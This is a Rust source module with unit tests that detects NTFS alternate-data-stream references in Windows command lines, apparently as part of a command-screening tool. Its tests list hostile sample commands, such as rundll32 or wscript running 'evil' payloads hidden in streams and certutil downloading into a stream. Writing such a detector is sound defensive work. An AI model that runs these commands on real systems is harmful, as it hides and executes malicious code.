//! Colons before contents of a file in a command, whose arguments have colons too.

use super::super::path::{has_drive, is_windows};
use super::{begins_drive, is_separator, of_a_file};

/// Whether a value names contents, in what may be the name of a file or a command of any system.
pub(in super::super) fn has_some(value: &str) -> bool {
    let has_backslash = value.contains('\\');
    if !value.contains(':') || (value.starts_with('/') && !has_backslash) {
        return false;
    }
    let is_one_path = is_windows(value) && has_drive(value) && !value.contains(char::is_whitespace);
    let colons = if is_one_path {
        of_a_file(value)
    } else {
        colons(value, false)
    };
    !colons.is_empty()
}

/// Where a command names contents: only a path does that begins like one, with a drive, a backslash, a dot or a variable, and that ends with
/// its quotes or, without any, at the next switch. In a command of Windows a slash may be a backslash, and a path may begin with a name:
/// there what stands behind the colon is a file only where it looks like one, since `CORP\svc:F` is an account and `registry/img:1.2` an
/// image.
pub(super) fn colons(value: &str, of_windows: bool) -> Vec<usize> {
    let has_backslash = value.contains('\\');
    if !of_windows && value.starts_with('/') && !has_backslash {
        return Vec::new();
    }
    let mut reader = Reader {
        of_windows,
        has_signs: of_windows || has_backslash,
        found: Found::default(),
        path: None,
        name: Name::default(),
        behind_quote: None,
        drive: None,
        last: ' ',
    };
    for (at, c) in value.char_indices() {
        let after = &value[at + c.len_utf8()..];
        if !reader.takes_quote(c, after) {
            reader.leave_argument(c);
            reader.begin_path(at, c, after);
            reader.look_for_contents(at, c, after);
            reader.go_on(&value[..at], c);
            if reader.path.is_none() {
                reader.found.forget();
            }
        }
        reader.last = c;
    }
    reader.found.certain
}

/// A command, so far as it is read.
struct Reader {
    of_windows: bool,
    /// A path may begin with a sign (`.`, `%`) or with a drive alone.
    has_signs: bool,
    found: Found,
    path: Option<Path>,
    name: Name,
    /// The word that is read stands behind this.
    behind_quote: Option<char>,
    /// Where the colon of the last drive stands.
    drive: Option<usize>,
    last: char,
}

impl Reader {
    fn quote(&self) -> Option<char> {
        self.path.as_ref().and_then(|path| path.quote)
    }

    fn begins_word(&self) -> bool {
        !self.last.is_alphanumeric() && self.last != '_'
    }

    /// Whether this is a quote, and no letter of a name; if so, goes over it.
    fn takes_quote(&mut self, c: char, after: &str) -> bool {
        let quote = self.quote();
        // Within a name an apostrophe is one.
        if c != '"' && !(c == '\'' && (self.begins_word() || quote == Some(c))) {
            return false;
        }
        let closes = quote == Some(c) && after.chars().next().is_none_or(char::is_whitespace);
        if closes || (quote.is_none() && self.last.is_whitespace()) {
            self.path = None;
        }
        if let Some(path) = &mut self.path {
            path.turn(c);
        } else {
            self.found.forget();
        }
        self.behind_quote = Some(c);
        true
    }

    /// Ends what an argument ends, before this begins another.
    fn leave_argument(&mut self, c: char) {
        if c.is_whitespace() {
            self.behind_quote = None;
            if let Some(path) = self.path.as_mut().filter(|path| path.quote.is_none()) {
                path.has_slashes = false;
                path.sign.take_if(|sign| *sign == '%');
            }
        }
        if self.last.is_whitespace() && self.quote().is_none() && matches!(c, '/' | '-') {
            self.path = None;
        }
    }

    /// Begins a path where this does, or goes on with the one that is read.
    fn begin_path(&mut self, at: usize, c: char, after: &str) {
        let begins_word = self.begins_word();
        let begins_argument = self.last.is_whitespace() || "\"'=,;()".contains(self.last);
        let of_a_folder = begins_drive(c, after) || (self.of_windows && begins_argument && begins_share(c, after));
        let of_a_sign = self.has_signs && !is_separator(self.last) && "\\.%$~".contains(c);
        let of_a_drive = self.has_signs && begins_argument && c.is_ascii_alphabetic() && after.starts_with(':');
        if begins_word && (of_a_folder || of_a_sign || of_a_drive) {
            // A sign within a word is a letter of the name that it begins with.
            let begins = of_a_folder || self.last.is_whitespace() || "\"'".contains(self.last);
            if self.path.as_ref().is_none_or(|path| path.begins_with_a_name && begins) {
                self.begin(Path {
                    sign: Some(c).filter(|_| of_a_sign && c != '\\'),
                    is_first: at == 0,
                    ..Path::default()
                });
            }
            if let Some(path) = &mut self.path {
                path.quote = path.quote.or(self.behind_quote);
                path.has_slashes |= of_a_folder || (of_a_drive && self.of_windows);
            }
            if begins_drive(c, after) {
                self.drive = Some(at + c.len_utf8());
            }
        } else if self.of_windows && is_separator(c) && self.path.is_none() && !begins_word {
            self.begin(Path {
                quote: self.behind_quote,
                has_slashes: c == '/',
                begins_with_a_name: true,
                ..Path::default()
            });
        }
    }

    fn begin(&mut self, path: Path) {
        self.found.forget();
        self.name = Name::default();
        self.path = Some(path);
    }

    fn look_for_contents(&mut self, at: usize, c: char, after: &str) {
        if c == ':'
            && at > 1
            && let Some(path) = self.path.as_ref().filter(|path| path.may_end_in(&self.name))
            && begins_contents(self.last, after, path.quote.is_some())
            && (!path.begins_with_a_name || self.name.may_be_a_file(after))
        {
            self.found.add(at, path.begins_with_a_name);
        }
        // Behind a slash a number of a version is no ending.
        let is_ending = |c: char| c.is_alphabetic() || (c.is_alphanumeric() && self.name.follows == Some('\\'));
        if c == '.' && after.starts_with(is_ending) {
            self.found.confirm();
        }
    }

    /// Takes this into the name and the path that are read.
    fn go_on(&mut self, before: &str, c: char) {
        if is_separator(c) {
            if let Some(path) = &mut self.path {
                let of_an_address = self.last == ':' && self.drive != before.len().checked_sub(1);
                // A slash behind a variable is one of its path.
                path.has_slashes = (path.has_slashes || (self.of_windows && path.sign.is_some())) && !of_an_address;
                path.sign = None;
            }
            // Contents have no separators in their names.
            self.found.forget();
            self.name = Name {
                follows: Some(c),
                ..Name::default()
            };
            return;
        }
        if self.quote().is_none() {
            let may_be_a_folder = |path: &Path| path.is_first && !ends_like_a_file(before);
            let ends_argument = c.is_whitespace() && !self.path.as_ref().is_some_and(may_be_a_folder);
            self.name.is_of_a_command |= ends_argument || ends_name(c);
        }
        self.name.len += c.len_utf8();
        self.name.has_dot |= c == '.';
        self.name.has_colon |= c == ':';
        self.path.take_if(|path| path.ends_at(c));
    }
}

/// Whether no name has this.
fn ends_name(c: char) -> bool {
    "<>|".contains(c)
}

/// Whether a name ends like that of a program: `C:\Tools\x.exe`, and not `C:\Program`.
fn ends_like_a_file(before: &str) -> bool {
    let is_ending =
        |ending: &str| (2..=4).contains(&ending.len()) && ending.bytes().all(|byte| byte.is_ascii_alphanumeric());
    let end = before.bytes().rev().take(5).position(|byte| byte == b'.');
    before.ends_with(char::is_whitespace) || end.is_some_and(|len| is_ending(&before[before.len() - len..]))
}

/// Whether a slash, and what stands behind it, are the beginning of a share: `//nas/share`, and not `//nologo`.
fn begins_share(c: char, after: &str) -> bool {
    let machine = after.strip_prefix('/').filter(|_| c == '/');
    machine.is_some_and(|machine| {
        let end = machine.find(|c: char| c == '/' || c == '"' || c.is_whitespace());
        machine.starts_with(char::is_alphanumeric) && end.is_some_and(|end| machine[end..].starts_with('/'))
    })
}

/// Whether what stands behind a colon may be the name of contents: not where nothing does, nor another path of a list. Contents without a
/// name have a kind (`::$DATA`); all other pairs of colons are words of PowerShell.
fn begins_contents(last: char, after: &str, in_quotes: bool) -> bool {
    if (last == ':' && !after.starts_with('$')) || (after.starts_with(':') && !after.starts_with(":$")) {
        return false;
    }
    if after.starts_with(char::is_whitespace) {
        let name = after.trim_start();
        return in_quotes && !name.is_empty() && !name.starts_with(['"', '\'', '\\', '/']);
    }
    let mut name = after.trim_start_matches(['"', '\'']).chars();
    name.next()
        .is_some_and(|c| !c.is_whitespace() && !is_separator(c) && !begins_drive(c, name.as_str()))
}

/// Colons before contents, so far as the command is read.
#[derive(Default)]
struct Found {
    certain: Vec<usize>,
    /// Those that are only where the contents have a name like that of a file: `Scripts\a.txt:evil.vbs`.
    doubtful: Vec<usize>,
}

impl Found {
    fn add(&mut self, at: usize, is_doubtful: bool) {
        if is_doubtful {
            self.doubtful.push(at);
        } else {
            self.certain.push(at);
        }
    }

    /// What stands behind them looks like the name of a file.
    fn confirm(&mut self) {
        self.certain.append(&mut self.doubtful);
    }

    /// Their path has ended.
    fn forget(&mut self) {
        self.doubtful.clear();
    }
}

/// A path, so far as it is read.
#[derive(Default)]
struct Path {
    /// Within which, if any, it stands.
    quote: Option<char>,
    /// A slash in it is not that of an address or of an image: `C:\x.exe http://host:80`.
    has_slashes: bool,
    /// It begins with this, and no separator has followed yet.
    sign: Option<char>,
    /// It may as well be an account.
    begins_with_a_name: bool,
    /// The command begins with it.
    is_first: bool,
}

impl Path {
    /// Goes over a quote: into or out of what is quoted, unless that has quotes of the other kind.
    fn turn(&mut self, quote: char) {
        match self.quote {
            None => self.quote = Some(quote),
            Some(open) if open == quote => self.quote = None,
            Some(_) => {}
        }
    }

    /// Whether the path ends with this.
    fn ends_at(&self, c: char) -> bool {
        let in_no_variable = match self.sign {
            // What is put into one is no part of its path: `$x='Stop'; …`.
            Some('$') => c == '=' || c == ';',
            Some('.' | '~') => c.is_whitespace(),
            _ => false,
        };
        ends_name(c) || in_no_variable || (self.begins_with_a_name && self.quote.is_none() && c.is_whitespace())
    }

    /// Whether this is the name of a file or folder in it.
    fn may_end_in(&self, name: &Name) -> bool {
        name.len > 0
            && name
                .follows
                .is_some_and(|separator| separator == '\\' || self.has_slashes)
            && (self.quote.is_some() || !name.is_of_a_command)
    }
}

/// What stands between two separators, so far as it is read.
#[derive(Default)]
struct Name {
    len: usize,
    follows: Option<char>,
    is_of_a_command: bool,
    has_dot: bool,
    has_colon: bool,
}

impl Name {
    /// Whether it may be that of a file before these contents, where nothing but a slash says so: `Scripts/a.txt:evil.vbs`, and not
    /// `origin/main:x.rs`, `http/10.0.0.1:80:www.example`.
    fn may_be_a_file(&self, contents: &str) -> bool {
        self.follows == Some('\\') || (self.has_dot && !self.has_colon && contents.starts_with(char::is_alphabetic))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_account_and_a_list_of_paths_are_told_from_contents_of_a_file() {
        for command in [
            r"C:\Windows\cmd.exe /c C:\Windows\Tracing:evil.exe",
            r#"cmd.exe /c "C:\Windows\Tracing:evil.exe""#,
            r"cmd.exe /c .\Tracing:evil.exe",
            r"cmd.exe /c \\host\share\x:evil.exe",
            r"cmd.exe /c %windir%\Tracing:evil.exe",
            r"start C:\Program Files\App:evil.exe",
            r"start /d=C:\Windows\Tracing:evil.exe",
            r"C:\data:C",
            r"cmd.exe /c type x>C:\Windows\Tracing:evil.exe",
            r"cmd.exe /c type x>.\Tracing:evil.exe",
            r"cmd.exe /c x<C:\Windows\Tracing:evil.exe",
            r"cmd.exe /c x|C:\Windows\Tracing:evil.exe",
            r"cmd.exe /c x&C:\Windows\Tracing:evil.exe",
            r"cmd.exe /c @C:\Windows\Tracing:evil.exe",
            r"cmd.exe /c copy a+C:\Windows\Tracing:evil.exe",
            r"robocopy.exe C:\a C:\b /log:C:\Windows\Tracing:evil.exe",
            r#"rundll32.exe "C:\Program Files\Acme, Inc\data:evil.dll",Start"#,
            r#"rundll32.exe "C:\ProgramData\Acme - Tools\data:evil.dll",Start"#,
            r#"rundll32.exe "C:\Acme (old)\My Data:evil.dll",Start"#,
            r#"rundll32.exe x" "C:\Acme, Inc\data:evil.dll",Start"#,
            r#"csc.exe "/out:C:\Acme, Inc\data:evil.dll""#,
            r"gc 'C:\Acme, Inc\data:evil.ps1'",
            r"gc 'C:\O''Neil, Inc\data:evil.ps1'",
            r"rundll32.exe C:\Users\O'Neil\data:evil.dll,Start",
            r"C:\Program Files (x86)\App\data:evil.dll -x y",
            r"rundll32.exe C:\Windows\Tracing:_evil.dll,Start",
            r"rundll32.exe C:\Windows\Tracing:.dll,Start",
            r"rundll32.exe C:\Windows\Tracing:^evil.dll,Start",
            r#"rundll32.exe C:\Windows\Tracing:"evil.dll",Start"#,
            r#"rundll32.exe C:\Windows\"Tracing":evil.dll,Start"#,
            r"rundll32.exe C:\Windows/Tracing:evil.dll,Start",
            r"rundll32.exe C:/Windows/Tracing:evil.dll,Start",
            r"certutil -f http://203.0.113.9/x C:\Windows\Tracing:evil.exe",
            r#"wscript.exe "C:\ProgramData\Acme data":evil.vbs"#,
            r#"wscript.exe C:\ProgramData\a", "bc:evil.vbs"#,
            r#"wscript.exe "C:\ProgramData\Acme data: evil.vbs""#,
            r"wscript.exe C:\ProgramData\a,bc:evil.vbs",
            r"wscript.exe C:\ProgramData\a;bc:evil.vbs",
            r"wscript.exe C:\ProgramData\a=bc:evil.vbs",
            r"wscript.exe C:\ProgramData\a::$DATA",
        ] {
            assert!(has_some(command), "{command}");
        }
        for command in [
            r"icacls C:\Data /grant CORP\svc:F",
            r#"icacls C:\Data /grant "CORP\svc:(OI)(CI)F""#,
            r"sqlcmd -S srv\inst -U CORP\svc:x",
            r"docker run -v C:\data:C:\data img",
            r"docker run -v C:\data:/data img",
            r"/usr/bin/chown CORP\svc:users /srv/x",
            r"powershell -c Get-Item HKLM:\Software\App",
            r"C:\a b",
            "ab:c:d",
            r#""C:\Tools\icacls.exe" C:\Data "CORP\svc:(OI)(CI)F" 'CORP\adm:F'"#,
            r"C:\Docker\docker.exe pull registry/img:tag",
            r"C:\Windows\curl.exe http://proxy.example:8080/x",
            r"C:\Tools\x.exe C:\a.txt>NUL 10:30",
            r#"cmd.exe /c "C:\Tools\x.exe" 10:30"#,
            r"schtasks /create /tr C:\x\y.bat /st 10:30",
            "rsync ./a/b:c /srv/x",
            "sed -e s:/var/a:/tmp/b: /srv/x",
        ] {
            assert!(!has_some(command), "{command}");
        }
    }

    #[test]
    fn a_command_of_windows_has_slashes_and_relative_paths_too() {
        for command in [
            "wscript.exe ./Scripts/a:evil.vbs",
            "wscript.exe %TEMP%/x/a:evil.vbs",
            "wscript.exe //nas/share/a:evil.vbs",
            "wscript.exe C:/a.txt:evil.vbs",
            r"cscript.exe //nologo Scripts\a.txt:evil.vbs",
            r#"cscript.exe "Scripts\My Data:evil.vbs""#,
            "wscript.exe ~/Scripts/a:evil.vbs",
            "wscript.exe Scripts/a.txt:evil.vbs",
            r"wscript.exe Scripts\$=a:evil.vbs",
            r"wscript.exe Scripts\a-.b:evil.vbs",
            "wscript.exe C:Scripts/a:evil.vbs",
            r"C:\Program Files\My Data:evil",
            r"C:\Program Files\My Data:evil.exe -x",
            r#"C:\Tools\x.exe -Command "$env:TEMP\a:evil.ps1""#,
        ] {
            assert_eq!(colons(command, true), [command.rfind(':').unwrap()], "{command}");
        }
        for command in [
            r"icacls Data /grant CORP\svc:F",
            r#"icacls Data /grant "CORP\svc:(OI)(CI)F" CORP\adm.x:F"#,
            "docker.exe pull registry/img:1.2 registry/img:tag",
            "git.exe show origin/main:x.rs",
            "appcmd.exe set site /site.name:A /bindings:http/*:80:www.example",
            "appcmd.exe set site /site.name:A /bindings:http/10.0.0.1:80:www.example",
            r"C:\Tools\x.exe 10:30",
            r#"C:\Tools\x.exe -Command "$env:TEMP""#,
            "cscript.exe //nologo //e:vbscript x.vbs",
            "cscript.exe //nologo //t:5 http://proxy.example:8080/x",
            "curl.exe %PROXY% http://proxy.example:8080/x",
            r#"powershell "$u='http://proxy.example:8080/x'""#,
            r"reg.exe add HKLM\Software\App /v a:b.c",
            r"x.exe C:\a.txt,http://proxy.example:8080/x",
            r#"powershell.exe -Command "$x='Stop'; & C:\Scripts\a.ps1; exit [int]::Parse(1)""#,
            r#"powershell.exe -Command "$x='Stop'; & C:\Scripts\a.ps1 -Confirm:$false""#,
            r#"powershell.exe -Command "C:\Scripts\a.ps1; exit [int]::Parse(1)""#,
        ] {
            assert_eq!(colons(command, true), [0; 0], "{command}");
        }
    }

    #[test]
    fn colons_are_read_once() {
        let started = std::time::Instant::now();
        for value in [
            format!(r"x.exe C:\ {}", "a:".repeat(500_000)),
            format!(r"x\{}", "a:".repeat(500_000)),
            "(//a".repeat(250_000),
        ] {
            assert!(colons(&value, true).is_empty());
        }
        assert!(started.elapsed().as_secs() < 5, "{:?}", started.elapsed());
    }
}
